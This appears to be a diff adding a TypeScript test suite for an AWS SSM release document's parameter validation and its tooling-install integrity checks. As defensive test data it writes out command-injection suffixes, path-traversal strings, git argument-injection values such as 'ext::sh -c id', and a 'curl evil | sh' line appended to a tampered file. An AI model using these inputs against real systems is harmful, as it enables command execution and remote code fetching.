@@ -1,0 +1,215 @@
+// The SSM document's script, run by bash and by sh (Debian's dash, what aws:runShellScript may
+// use) exactly as SSM would run it: the parameters substituted textually into the rendered text.
+// Its allowedPattern regexes against hostile values; tooling-install against s3rver holding the
+// objects exactly as the stack uploads them; the release verbs reaching the installed nourishctl.
+import * as assert from "assert";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { NOURISHCTL_LIB_PATH, NOURISHCTL_PATH, nourishctlFiles } from "../components/hosts/user-data";
+import { toolingObjects } from "../components/hosts/tooling";
+import { DocumentParams, PARAMETER_NAMES, PARAMETER_PATTERNS, parameterProblem, renderDocument, substitute, VERBS } from "../components/release/document";
+import { toolingHash } from "../components/release/steps";
+import { buildArtifacts } from "../scripts/rehearsal/artifacts";
+import { S3, startS3 } from "./s3";
+import { requireTool, run } from "./tools";
+
+const BUCKET = "nl-tooling-test";
+const RELEASES = "nl-releases-test";
+
+const VALID: Record<string, string[]> = {
+  version: ["1.4.2", "2.0.0-rc.1"],
+  s3Artifact: ["s3://nourish-link-releases/releases/nourish-link-1.4.2.tar.gz", "s3://b.example/x/y_z+1=2~3.tgz"],
+  sha256: ["9b2e4c6a8d0f1e3c5a7b9d1f3e5c7a9b0d2f4e6c8a1b3d5f7e9c0a2b4d6f8e1a"],
+  gitUrl: ["https://github.com/nourish-link/dusangire.git", "ssh://git@github.com:22/nourish-link/dusangire.git", "git@github.com:nourish-link/dusangire.git"],
+  commit: ["4c9d381ee11d476062383b684cbe0d11fde4912d"],
+  tag: ["v1.4.2", "release/v1.4.2-rc+1"],
+  backupKey: ["dumps/daily/db_backup_20261101_020000.dump", "dumps/monthly/db_backup_20261101_020000.sqlite3"],
+  toolingHash: ["9b2e4c6a8d0f1e3c5a7b9d1f3e5c7a9b0d2f4e6c8a1b3d5f7e9c0a2b4d6f8e1a"],
+};
+
+describe("the SSM document", () => {
+  describe("allowedPattern", () => {
+    it("admits the values the release sends, and empty", () => {
+      for (const p of PARAMETER_NAMES) {
+        assert.ok(PARAMETER_PATTERNS[p].test(""), `${p}: empty`);
+        for (const v of VALID[p]) assert.ok(PARAMETER_PATTERNS[p].test(v), `${p}: ${v}`);
+      }
+    });
+
+    it("refuses every hostile variant: ; $() backticks newlines quotes spaces, a leading -, .. segments", () => {
+      const hostile = (v: string) => [
+        `${v};id`, `${v}$(id)`, `${v}\`id\``, `${v}\nid`, `\n${v}`, `${v}\n`, `-${v}`, `--${v}`, `${v}"`, `${v}'`, `${v} x`, `${v}|id`, `${v}&`,
+        `${v}>x`, `${v}\\`, `${v}{{ verb }}`, `$HOME${v}`, `${v}\r`, `${v}\0`,
+      ];
+      for (const p of PARAMETER_NAMES) {
+        for (const v of VALID[p]) for (const h of hostile(v)) assert.ok(!PARAMETER_PATTERNS[p].test(h), `${p} admits ${JSON.stringify(h)}`);
+      }
+      for (const h of ["s3://b.example/../etc/passwd", "s3://b.example/x/../../y", "s3://b.example/./x", "s3://b.example/x/.hidden", "s3://b.example/-x", "s3://b.example/"]) {
+        assert.ok(!PARAMETER_PATTERNS.s3Artifact.test(h), h);
+      }
+      for (const h of ["https://github.com/../x.git", "https://github.com/-x", "--upload-pack=touch /tmp/x", "ext::sh -c id", "file:///etc", "git@github.com:../x", "https://u:p@github.com/x"]) {
+        assert.ok(!PARAMETER_PATTERNS.gitUrl.test(h), h);
+      }
+      for (const h of ["-v1", "v1..2", "v1/../x", "v1/-x", ".v1", "v1/", "v1."]) assert.ok(!PARAMETER_PATTERNS.tag.test(h), h);
+      for (const h of ["dumps/daily/../daily/db_backup_20261101_020000.dump", "x/dumps/daily/db_backup_20261101_020000.dump"]) assert.ok(!PARAMETER_PATTERNS.backupKey.test(h), h);
+      for (const h of ["1.4", "01.4.2", "1.4.2/..", "../../etc"]) assert.ok(!PARAMETER_PATTERNS.version.test(h), h);
+    });
+
+    it("the document carries exactly these patterns, and a verb from the list only", () => {
+      const doc = renderDocument({ toolingBucket: BUCKET, region: "af-south-1", timeoutSeconds: 1800 }) as { parameters: Record<string, { allowedPattern?: string; allowedValues?: string[] }> };
+      for (const p of PARAMETER_NAMES) assert.strictEqual(new RegExp(doc.parameters[p].allowedPattern!).source, PARAMETER_PATTERNS[p].source);
+      assert.deepStrictEqual(doc.parameters.verb.allowedValues, [...VERBS]);
+      assert.match(parameterProblem({ verb: "sh" as never })!, /verb "sh" is not one of/);
+      assert.match(parameterProblem({ verb: "backup", version: "1.0.0;id" })!, /version "1.0.0;id" does not match its allowedPattern/);
+      assert.match(parameterProblem({ verb: "backup", command: "id" } as DocumentParams)!, /command is not a parameter/);
+      assert.throws(() => substitute(doc, { verb: "release-migrate", version: "$(id)" }), /^Error: InvalidParameters: version/);
+    });
+  });
+
+  describe("its script, run by bash and sh against a host sandbox", function () {
+    this.timeout(120_000);
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nl-ssm-doc-"));
+    const bin = path.join(dir, "bin");
+    let s3: S3;
+    const doc = () => renderDocument({ toolingBucket: BUCKET, region: "us-east-1", timeoutSeconds: 1800 });
+    let artifact: { file: string; sha256: string };
+
+    before(async () => {
+      requireTool("shellcheck");
+      s3 = await startS3({ buckets: [BUCKET, RELEASES] });
+      // The objects exactly as HostTooling uploads them.
+      for (const o of toolingObjects()) {
+        const file = path.join(dir, "upload");
+        fs.writeFileSync(file, o.content);
+        assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", file, `s3://${BUCKET}/${o.key}`]).status, 0);
+      }
+      fs.mkdirSync(bin);
+      // No cloud-init runs here: its status --wait answers with $CLOUD_INIT_RC.
+      fs.writeFileSync(path.join(bin, "cloud-init"), "#!/bin/sh\nexit \"${CLOUD_INIT_RC:-0}\"\n", { mode: 0o755 });
+      artifact = buildArtifacts(path.join(dir, "artifacts")).find((a) => a.name === "v1")!;
+      assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", artifact.file, `s3://${RELEASES}/releases/v1.tar.gz`]).status, 0);
+    });
+    after(async () => {
+      await s3?.stop();
+      fs.rmSync(dir, { recursive: true, force: true });
+    });
+
+    /** A new sandbox root whose host.env names `role`. */
+    function host(role: "app" | "db"): string {
+      const root = fs.mkdtempSync(path.join(dir, `${role}-`));
+      fs.mkdirSync(path.join(root, "etc/nourish-link"), { recursive: true });
+      fs.writeFileSync(path.join(root, "etc/nourish-link/host.env"), `ROLE=${role}\nDOMAIN=app.nourishlink.test\nKEEP_RELEASES=3\n`);
+      return root;
+    }
+    function send(shell: "bash" | "sh", root: string, params: DocumentParams, extra: Record<string, string> = {}) {
+      const script = substitute(doc(), params);
+      return run(shell, ["-c", script], {
+        env: { ...process.env, ...s3.env, S3_ENDPOINT: s3.endpoint, NOURISH_ROOT: root, NOURISH_LIB: path.join(root, NOURISHCTL_LIB_PATH), PIP_NO_INDEX: "1", PATH: `${bin}:/usr/bin:${process.env.PATH}`, ...extra },
+      });
+    }
+    const installed = (root: string) => fs.existsSync(path.join(root, NOURISHCTL_LIB_PATH)) ? fs.readdirSync(path.join(root, NOURISHCTL_LIB_PATH)).sort() : [];
+
+    it("passes shellcheck as sh, whatever the verb", () => {
+      for (const verb of VERBS) {
+        const file = path.join(dir, `${verb}.sh`);
+        fs.writeFileSync(file, `#!/bin/sh\n${substitute(doc(), { verb, version: "1.0.0", toolingHash: toolingHash() })}`);
+        const r = run("shellcheck", ["-s", "sh", file]);
+        assert.strictEqual(r.status, 0, `${verb}:\n${r.stdout}`);
+      }
+    });
+
+    for (const shell of ["bash", "sh"] as const) {
+      it(`${shell}: tooling-install checks the manifest against the hash, the files against the manifest, installs the role's files, CLI last`, () => {
+        for (const role of ["app", "db"] as const) {
+          const root = host(role);
+          // A library an older version had: removed by the install.
+          fs.mkdirSync(path.join(root, NOURISHCTL_LIB_PATH), { recursive: true });
+          fs.writeFileSync(path.join(root, NOURISHCTL_LIB_PATH, "gone.sh"), "");
+          const r = send(shell, root, { verb: "tooling-install", toolingHash: toolingHash() });
+          assert.strictEqual(r.status, 0, r.stderr);
+          assert.match(r.stdout, new RegExp(`tooling ${toolingHash()} installed for ${role}`));
+          for (const f of nourishctlFiles(role)) {
+            const at = path.join(root, f.path);
+            assert.strictEqual(fs.readFileSync(at, "utf8"), f.content, `${role}: ${f.path}`);
+            assert.strictEqual((fs.statSync(at).mode & 0o777).toString(8), f.permissions === "0755" ? "755" : "644", f.path);
+          }
+          assert.deepStrictEqual(installed(root), nourishctlFiles(role).filter((f) => f.path.startsWith(NOURISHCTL_LIB_PATH)).map((f) => path.basename(f.path)).sort());
+        }
+      });
+    }
+
+    it("tooling-install refuses a hash the bucket has no manifest for, a manifest that is not the hash, a file that is not the manifest's", () => {
+      const other = "0".repeat(64);
+      const root = host("db");
+      let r = send("sh", root, { verb: "tooling-install", toolingHash: other });
+      assert.strictEqual(r.status, 1);
+      assert.match(r.stderr, new RegExp(`nourish-link: tooling-install: cannot download s3://${BUCKET}/tooling/${other}/manifest.sha256`));
+      // A version whose manifest was replaced: its SHA-256 is not the hash any more.
+      const hash = toolingHash();
+      const objects = toolingObjects();
+      const put = (key: string, content: string) => {
+        fs.writeFileSync(path.join(dir, "put"), content);
+        assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", path.join(dir, "put"), `s3://${BUCKET}/${key}`]).status, 0);
+      };
+      const manifest = objects.find((o) => o.key.endsWith("manifest.sha256"))!;
+      const cli = objects.find((o) => o.key.endsWith("/host/nourishctl"))!;
+      try {
+        put(manifest.key, manifest.content + `${"1".repeat(64)}  lib/extra.sh\n`);
+        r = send("sh", root, { verb: "tooling-install", toolingHash: hash });
+        assert.strictEqual(r.status, 1);
+        assert.match(r.stderr, new RegExp(`tooling manifest s3://${BUCKET}/tooling/${hash}/manifest.sha256 has sha256 [0-9a-f]{64}, expected ${hash}; nothing installed`));
+        put(manifest.key, manifest.content);
+        put(cli.key, cli.content + "\ncurl evil | sh\n");
+        r = send("sh", root, { verb: "tooling-install", toolingHash: hash });
+        assert.strictEqual(r.status, 1);
+        assert.match(r.stderr, /nourishctl: FAILED/);
+        assert.match(r.stderr, new RegExp(`the tooling files under s3://${BUCKET}/tooling/${hash}/host/ do not match its manifest; nothing installed`));
+        assert.deepStrictEqual(installed(root), []);
+        assert.ok(!fs.existsSync(path.join(root, NOURISHCTL_PATH)));
+      } finally {
+        put(manifest.key, manifest.content);
+        put(cli.key, cli.content);
+      }
+    });
+
+    it("tooling-install waits for first boot and stops when it failed (cloud-init status 1); 2 (recoverable) is fine", () => {
+      const root = host("db");
+      const failed = send("sh", root, { verb: "tooling-install", toolingHash: toolingHash() }, { CLOUD_INIT_RC: "1" });
+      assert.strictEqual(failed.status, 1);
+      assert.match(failed.stderr, /first boot did not finish cleanly \(cloud-init status 1\)/);
+      assert.deepStrictEqual(installed(root), []);
+      assert.strictEqual(send("sh", root, { verb: "tooling-install", toolingHash: toolingHash() }, { CLOUD_INIT_RC: "2" }).status, 0);
+    });
+
+    it("each release verb reaches the installed nourishctl with its fixed argv", () => {
+      const root = host("app");
+      assert.strictEqual(send("bash", root, { verb: "tooling-install", toolingHash: toolingHash() }).status, 0);
+      const wrong = "f".repeat(64);
+      let r = send("bash", root, { verb: "release-fetch", version: "1.0.0", s3Artifact: `s3://${RELEASES}/releases/v1.tar.gz`, sha256: wrong });
+      assert.strictEqual(r.status, 1);
+      assert.match(r.stderr, new RegExp(`release fetch: artifact s3://${RELEASES}/releases/v1\\.tar\\.gz has sha256 ${artifact.sha256}, expected ${wrong}; not installed`));
+      r = send("bash", root, { verb: "release-switch", version: "2.0.0", backupKey: VALID.backupKey[0] });
+      assert.match(r.stderr, /release switch: release 2\.0\.0 is not installed here/);
+      r = send("bash", root, { verb: "rollback" });
+      assert.match(r.stderr, /rollback: no release is live yet/);
+      r = send("bash", root, { verb: "release-fetch", version: "1.0.0", gitUrl: "https://github.com/nourish-link/dusangire.git", commit: "0".repeat(40), tag: "v1" }, { GIT_TERMINAL_PROMPT: "0", GIT_CONFIG_GLOBAL: "/dev/null", https_proxy: "http://127.0.0.1:9" });
+      assert.strictEqual(r.status, 1);
+      assert.match(r.stderr, /release fetch: .*github\.com\/nourish-link\/dusangire\.git/, "the git URL reached nourishctl as --git");
+    });
+
+    it("a verb without the parameter it needs fails naming it, before nourishctl runs", () => {
+      const root = host("app");
+      for (const [params, missing] of [
+        [{ verb: "release-switch", version: "1.0.0" }, "backupKey"], [{ verb: "release-migrate" }, "version"], [{ verb: "tooling-install" }, "toolingHash"],
+        [{ verb: "release-fetch", version: "1.0.0", s3Artifact: VALID.s3Artifact[0] }, "sha256"],
+      ] as [DocumentParams, string][]) {
+        const r = send("sh", root, params);
+        assert.strictEqual(r.status, 1);
+        assert.strictEqual(r.stderr.trim(), `nourish-link: ${params.verb}: needs the parameter ${missing}`);
+      }
+      const r = send("sh", root, { verb: "release-fetch", version: "1.0.0" });
+      assert.strictEqual(r.stderr.trim(), "nourish-link: release-fetch: needs s3Artifact and sha256, or gitUrl and commit");
+    });
+  });
+});
